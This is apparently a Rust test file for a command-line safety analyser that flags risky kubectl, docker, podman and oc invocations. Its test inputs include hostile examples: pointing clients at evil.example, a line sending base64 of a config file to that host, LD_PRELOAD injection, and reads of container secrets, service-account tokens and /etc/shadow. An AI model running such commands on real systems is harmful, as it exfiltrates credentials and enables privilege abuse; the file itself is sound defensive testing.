//! Command lines of clients of containers. Each stays here.

use super::check;
use crate::{Limits, Reading, read};

fn plain(text: &str) -> Reading {
    read(text.as_bytes(), &Limits::default())
}

/// A configuration names programs that are run, another host gets what the line says, and a name or a token is with
/// other rights.
#[test]
fn who_is_asked_and_by_which_programs() {
    for (text, code) in [
        ("kubectl --kubeconfig=/dev/stdin exec p -- ls", true),
        (
            "kubectl --kubeconfig=/dev/stdin exec p -- ls <<'E'\nusers: []\nE",
            true,
        ),
        (
            "kubectl --kubeconfig <(printf 'users: []') exec p -- ls",
            true,
        ),
        ("kubectl --kubeconfig=/srv/k exec p -- ls", true),
        ("kubectl exec p --kubeconfig /srv/up/k -- ls", true),
        ("kubectl exec --kubeconfig=/srv/up/k p -- ls", true),
        ("kubectl --kubeconfig /srv/k get pods", true),
        ("kubectl get pods --kubeconfig /srv/k", true),
        ("oc get pods --kubeconfig=/srv/k", true),
        ("docker -H tcp://evil.example:2375 exec x ls", true),
        ("docker -H ssh://evil.example exec x ls", true),
        ("docker -Hssh://evil.example container exec x ls", true),
        ("docker --host=ssh://evil.example ps", true),
        ("docker -c other exec x ls", true),
        ("docker --context other exec x ls", true),
        ("docker --config /srv/d exec x ls", true),
        ("podman -c other exec x ls", true),
        (
            "kubectl -s https://evil.example exec x\"$(base64 -w0 /srv/app/conf)\" -- ls",
            false,
        ),
        ("kubectl exec p --server=https://evil.example -- ls", false),
        ("kubectl --token=x --as=system:admin exec p -- ls", false),
        ("kubectl exec p --as-group x -- ls", false),
        ("kubectl --context=other exec p -- ls", false),
        ("kubectl --cluster=other exec p -- ls", false),
        ("kubectl --user=other exec p -- ls", false),
        ("kubectl -v 9 exec p -- ls", false),
        ("docker --tlscacert /srv/d exec x ls", false),
        ("docker --tls exec x ls", false),
    ] {
        let reading = plain(text);
        assert!(!reading.only_reads, "{text}");
        assert_eq!(reading.code, code, "{text}");
        let hazard = if code { "runs-by-option" } else { "network" };
        let hazards = &reading.hazards;
        assert!(hazards.iter().any(|h| h.code == hazard), "{text}");
    }
    // The configuration, or a program that it names, may take what the client sends.
    for text in [
        "kubectl --kubeconfig=/dev/stdin exec p -- ls",
        "kubectl --kubeconfig=/srv/k exec p -- ls",
        "kubectl get pods --kubeconfig /srv/k",
    ] {
        assert!(plain(text).takes_stdin, "{text}");
    }
    for text in [
        "kubectl exec p -- ls /srv",
        "kubectl -n x exec p -c web -- ls /srv",
        "kubectl --namespace=x --request-timeout=5s exec -q p --container web -- ls",
        "kubectl exec p --pod-running-timeout 5s -- ls",
        "docker exec web ls /srv",
        "docker -D --log-level debug exec web ls /srv",
        "docker container exec web ls /srv",
        "podman exec -u app web ls /srv",
    ] {
        let reading = plain(text);
        assert!(reading.only_reads && !reading.code, "{text}");
        assert!(!reading.reads.unknown && !reading.takes_stdin, "{text}");
    }
}

/// Options count wherever they stand, and what is no container is the program.
#[test]
fn what_gets_the_input_of_the_client() {
    check(&[
        ("kubectl --stdin=true exec p -- sh", "kubectl>sh +stdin:sh"),
        ("kubectl --stdin exec p -- sh", "kubectl>sh +stdin:sh"),
        ("kubectl -i exec p -- sh", "kubectl>sh +stdin:sh"),
        ("kubectl exec -i p -- sh", "kubectl>sh +stdin:sh"),
        ("kubectl exec p --stdin=true -- sh", "kubectl>sh +stdin:sh"),
        (
            "kubectl --stdin=true exec p -- bash <<< 'rm x'",
            "kubectl>bash>rm x",
        ),
        ("kubectl --tty=true exec p -- ls", "kubectl>ls"),
        ("kubectl -t exec p -- ls", "kubectl>ls"),
        ("kubectl exec p -- sh", "kubectl>sh +reads"),
        (
            "podman exec --latest rm cat /data/db",
            "podman exec --latest rm cat /data/db !option",
        ),
        (
            "podman exec --latest halt ls",
            "podman exec --latest halt ls !option",
        ),
        ("podman exec -l ls", "podman exec -l ls !option"),
    ]);
    assert!(plain("kubectl --stdin=true exec p -- cat").takes_stdin);
    assert!(!plain("kubectl exec p -- cat").takes_stdin);
}

/// Where a program stands in a container, its image says, or `-w`.
#[test]
fn relative_names_in_a_container() {
    for text in [
        "docker exec web cat run/secrets/db_password",
        "docker exec -w /run web cat secrets/db_password",
        "docker exec -w /etc web head shadow",
        "docker exec web sh -c 'cat run/secrets/db_password'",
        "podman exec web cat db_password",
        "kubectl exec p -- cat var/run/secrets/kubernetes.io/serviceaccount/token",
        "kubectl exec p -- head shadow",
        "oc exec p -- head shadow",
    ] {
        assert!(plain(text).reads.unknown, "{text}");
    }
    for text in ["docker exec web tee x", "kubectl exec p -- cp /srv/x y"] {
        assert!(plain(text).writes.unknown, "{text}");
    }
    for text in [
        "docker exec web cat /srv/notes",
        "docker exec web ls notes",
        "kubectl exec p -- cat /srv/notes",
        "docker ps",
        "kubectl get pods",
    ] {
        assert!(!plain(text).reads.unknown, "{text}");
    }
}

/// The line sets it in the container, whatever it is.
#[test]
fn variables_in_a_container() {
    for text in [
        "docker exec -e LD_PRELOAD=/tmp/x.so web ls",
        "docker exec -e PATH web ls",
        "docker exec --env LC_ALL web ls",
        "docker exec -e \"$x\" web ls",
        "docker exec -e A=\"$x\" web ls",
        "docker exec --env=\"$x=1\" web ls",
        "x=LD_PRELOAD=/tmp/x.so; docker exec -e $x web ls",
        "docker exec -e A* web ls",
        "xargs -I B docker exec -e AB=1 web ls",
        "docker exec --env-file /tmp/x web ls",
        "docker exec --env-file=/tmp/x web ls",
    ] {
        assert!(plain(text).is_opaque(), "{text}");
    }
    for text in [
        "docker exec -e A=b web ls",
        "docker exec -e APP_MODE web ls",
    ] {
        let reading = plain(text);
        assert!(reading.only_reads, "{text}: {:?}", reading.opaque);
    }
}

#[test]
fn what_tells_the_variables_of_others() {
    let tells = |text: &str| plain(text).reads.paths.contains("/proc/*/environ");
    for text in [
        "kubectl get pod x -o yaml",
        "kubectl get pod x -oyaml",
        "kubectl get pod x -o=json",
        "kubectl get pod x -ojson",
        "kubectl get pods -Ao yaml",
        "kubectl get pods -Aojson",
        "kubectl get pods -wo json",
        "kubectl get pod x --output yaml",
        "kubectl get pod x --output=json",
        "kubectl get pod x -o wide -o yaml",
        "kubectl -n web get pod/x -o yaml",
        "kubectl -o yaml get pod x",
        "kubectl get -o yaml -f x",
        "kubectl get pod x -o \"$x\"",
        "kubectl get pod x \"$x\"",
        "kubectl get pod x -o",
        "kubectl get pod x -o 'jsonpath={..env}'",
        "kubectl get pod x -o 'jsonpath={.spec}'",
        "kubectl get pod x -o 'jsonpath={.spec.containers[*].env}'",
        "kubectl get pod x -o 'jsonpath={.metadata}'",
        "kubectl get pod x -o 'jsonpath={.metadata.annotations}'",
        "kubectl get pod x -o 'jsonpath={.metadata.name}{.spec}'",
        "kubectl get pods -o 'jsonpath={.items[*]}'",
        "kubectl get pods -o 'jsonpath={range .items[*].spec}{.containers}{end}'",
        "kubectl get pods -o 'jsonpath={range .items[*]}{@}{end}'",
        "kubectl get pods -o 'jsonpath={.statusx}'",
        "kubectl get pods -o jsonpath=.metadata.name",
        "kubectl get pods -o jsonpath-as-json='{.metadata.name}'",
        "kubectl get pods -o custom-columns=A:.spec.containers",
        "kubectl get pods -o custom-columns=A:.metadata.name,B:.spec",
        "kubectl get pods -o custom-columns-file=/tmp/x",
        "kubectl get pods -o go-template='{{.}}'",
        "kubectl get pods -o jsonpath-file=/tmp/x",
        "kubectl get pods --template '{{.}}'",
        "kubectl get pods --template='{{.}}'",
        "kubectl get --raw /api/v1/pods",
        "kubectl get --raw=/api/v1/pods",
        "kubectl get pods -v=9",
        "kubectl get pods --v 9",
        "kubectl get nodes,pods -o yaml",
        "kubectl get nodes/x pods/y -o yaml",
        "kubectl get -n nodes pods -o yaml",
        "kubectl get nodes -f x -o yaml",
        "kubectl get configmaps -o yaml",
        "kubectl describe pod x",
        "kubectl -n web describe deploy x",
        "kubectl describe nodes/x pods/y",
        "kubectl describe",
        "sudo kubectl describe pod x",
        "kubectl cluster-info dump",
        "kubectl -n web cluster-info dump",
        "kubectl rollout history deploy/x --revision=2",
        "kubectl set env deploy/x --list",
        "kubectl annotate pod x --list",
        "kubectl apply view-last-applied deploy/x",
        "kubectl diff -f x",
        "kubectl apply -f x -o yaml",
        "oc describe dc x",
        "oc get dc x -o yaml",
        "oc extract cm/x",
        "oc process x",
        "podman generate kube web",
        "systemctl cat nginx",
        "sudo systemctl cat nginx",
        "sudo systemctl --no-pager cat nginx",
    ] {
        assert!(tells(text), "{text}");
    }
    for text in [
        "kubectl get pods",
        "kubectl get pods -o wide",
        "kubectl get pods -Aowide",
        "kubectl get pods -oname",
        "kubectl get pods --output=name",
        "kubectl -n foo get pods",
        "kubectl -nfoo get pods -lapp=foo",
        "kubectl get pods --no-headers --show-labels",
        "kubectl get nodes -o yaml",
        "kubectl get node/x -o json",
        "kubectl get svc,ingress -o yaml",
        "kubectl get pod x -o 'jsonpath={.status.phase}'",
        "kubectl get pod x -o jsonpath='{.metadata.name} {.status.podIP}'",
        "kubectl get pods -o 'jsonpath={.items[*].metadata.name}'",
        "kubectl get pods -o 'jsonpath={range .items[*]}{.metadata.name}{\"\\n\"}{end}'",
        "kubectl get pods -o custom-columns=NAME:.metadata.name,IP:.status.podIP",
        "kubectl describe node x",
        "kubectl describe svc/x",
        "kubectl cluster-info",
        "kubectl version",
        "kubectl logs x",
        "kubectl top pods",
        "kubectl rollout history deploy/x",
        "kubectl rollout status deploy/x",
        "kubectl apply -f x",
        "systemctl status nginx",
        "systemctl list-units",
        "docker ps",
    ] {
        assert!(!tells(text), "{text}");
    }
}
